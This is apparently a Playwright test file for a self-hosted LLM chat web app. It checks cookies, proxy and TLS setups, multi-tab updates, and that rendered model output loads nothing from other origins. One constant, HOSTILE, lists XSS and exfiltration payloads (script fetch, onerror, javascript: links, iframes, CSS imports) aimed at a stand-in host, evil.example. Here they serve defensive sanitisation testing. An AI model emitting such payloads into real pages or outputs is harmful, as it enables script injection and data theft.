"""Where the page is served from, how many tabs there are, what it asks of others."""

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.page.model import Model
from tests.page.proxy import in_front
from tests.page.site import LAN, NewSite, Site
from tests.page.tabs import PASSWORDS, Tabs, requests_of, send, turn

PAGES = (
    *("", "find?q=llama", "usage", "compare", "c/none", "r/none"),
    *("settings", "settings/keys", "settings/limits"),
    *("manage/users", "manage/usage", "manage/limits", "manage/audit"),
    *("manage/providers", "manage/invitations", "terminal", "docs"),
    *("welcome#lks_1", "reset#lkr_1", "join#lki_1"),
)
HOSTILE = """
<script>fetch('https://evil.example/script')</script>
<img src="https://evil.example/image?secret" onerror="alert(1)">

![A picture](https://evil.example/picture?secret) ![](data:image/png;base64,AAAA)

<style>@import 'https://evil.example/style';</style>
<iframe src="//evil.example"></iframe><link rel=stylesheet href=//evil.example/css>

[One](javascript:alert(1)) [Two](data:text/html,<script>alert(1)</script>)
<https://evil.example/link>
[3]: https://evil.example/reference

```html
<img src="https://evil.example/code">
```
"""
VISIBILITY = """
let isHidden = false;
Object.defineProperties(Document.prototype, {
    hidden: { get: () => isHidden },
    visibilityState: { get: () => isHidden ? "hidden" : "visible" },
});
globalThis.hide = (value) => {
    isHidden = value;
    document.dispatchEvent(new Event("visibilitychange"));
};
"""


def log_in(page: Page, user: str) -> None:
    page.get_by_label("Name").fill(user)
    page.get_by_label("Password").fill(PASSWORDS[user])
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="New conversation")).to_be_visible()


@pytest.fixture
def real_site(new_site: NewSite) -> Site:
    """A server with a user whose password is a secret."""
    site = new_site(demo=False, trusted_proxies=["127.0.0.1"])
    site.add_admin("root", PASSWORDS["root"])
    return site


def test_logging_in_works_on_plain_http_in_a_local_network(
    tabs: Tabs, real_site: Site
) -> None:
    page = tabs.blank()
    page.goto(f"http://{LAN}:{real_site.port}/")
    assert page.evaluate("() => isSecureContext") is False
    log_in(page, "root")
    send(page, "Is anybody there?")
    expect(turn(page)).to_contain_text("Hello, world.")
    [cookie] = page.context.cookies()
    assert cookie["name"].startswith("llamakeep-")
    facts = (cookie["httpOnly"], cookie["sameSite"], cookie["secure"])
    assert facts == (True, "Strict", False)


def test_behind_a_proxy_with_tls_under_a_path_everything_works(
    tabs: Tabs, real_site: Site, tmp_path: Path, model: Model
) -> None:
    gate = model.gate()
    model.says(["First, ", gate, "second."])
    with in_front(real_site, tmp_path) as address:
        page = tabs.blank(ignore_https_errors=True)
        asked = requests_of(page)
        page.goto(address)
        log_in(page, "root")
        send(page, "Count")
        expect(turn(page)).to_contain_text("First,")
        page.reload()
        expect(turn(page)).to_contain_text("First,")
        gate.set()
        expect(turn(page)).to_contain_text("First, second.")
        conversation = page.url
        page.get_by_role("link", name="Settings").click()
        expect(page.get_by_role("heading", name="Settings")).to_be_visible()
        assert page.url == f"{address}settings"
        page.get_by_role("link", name="API keys").first.click()
        calls = page.get_by_label("Three calls")
        expect(calls).to_contain_text(f"curl {address}prompt/")
        page.go_back()
        page.go_back()
        expect(turn(page)).to_contain_text("First, second.")
        assert page.url == conversation
        page.get_by_role("link", name="Manage").click()
        page.get_by_role("button", name="More about root").click()
        page.get_by_role("menuitem", name="Link for a new password").click()
        expect(page.locator(".secret")).to_contain_text(f"{address}reset#lkr_")
        [cookie] = page.context.cookies()
        page.get_by_role("button", name="root", exact=True).click()
        page.get_by_role("menuitem", name="Log out").click()
        expect(page.get_by_role("button", name="Log in")).to_be_visible()
        assert page.url == address
    assert [url for url in asked if not url.startswith(address)] == []
    assert cookie["name"].startswith("__Host-llamakeep-")
    facts = (cookie["httpOnly"], cookie["sameSite"], cookie["secure"])
    assert facts == (True, "Strict", True)


def test_nothing_is_loaded_from_elsewhere_whatever_a_model_writes(
    tabs: Tabs, site: Site, model: Model
) -> None:
    model.says([HOSTILE])
    site.add_admin("root", PASSWORDS["root"])
    page = tabs.open(site, user="root")
    asked = requests_of(page.context)
    send(page, HOSTILE)
    expect(turn(page).locator(".facts")).to_be_visible()
    expect(turn(page)).to_contain_text("onerror")
    assert page.locator(".turn :is(img, script, style, iframe, link)").count() == 0
    links = page.locator(".turn .text a").evaluate_all("all => all.map(a => a.href)")
    assert {link.partition(":")[0] for link in links} <= {"https"}
    for path in PAGES:
        page.goto(f"{site.origin}/{path}")
        page.wait_for_load_state("load")
        page.get_by_role("heading").first.wait_for()
    assert asked
    assert [url for url in asked if not url.startswith(site.origin)] == []


def test_twenty_tabs_on_plain_http_load_and_are_current_when_looked_at(
    tabs: Tabs, site: Site
) -> None:
    run = site.ask("First")
    device = tabs.device(site)
    device.add_init_script(VISIBILITY)
    pages: list[Page] = []
    for _ in range(20):
        page = device.new_page()
        page.goto(f"{site.origin}/c/{run['conversation_id']}")
        expect(turn(page)).to_contain_text("Hello, world.")
        page.evaluate("() => hide(true)")
        pages.append(page)
    site.ask("Second", conversation_id=run["conversation_id"])
    for page in pages:
        page.evaluate("() => hide(false)")
        expect(turn(page)).to_contain_text("Second")
        expect(turn(page)).to_contain_text("Hello, world.")
        page.evaluate("() => hide(true)")
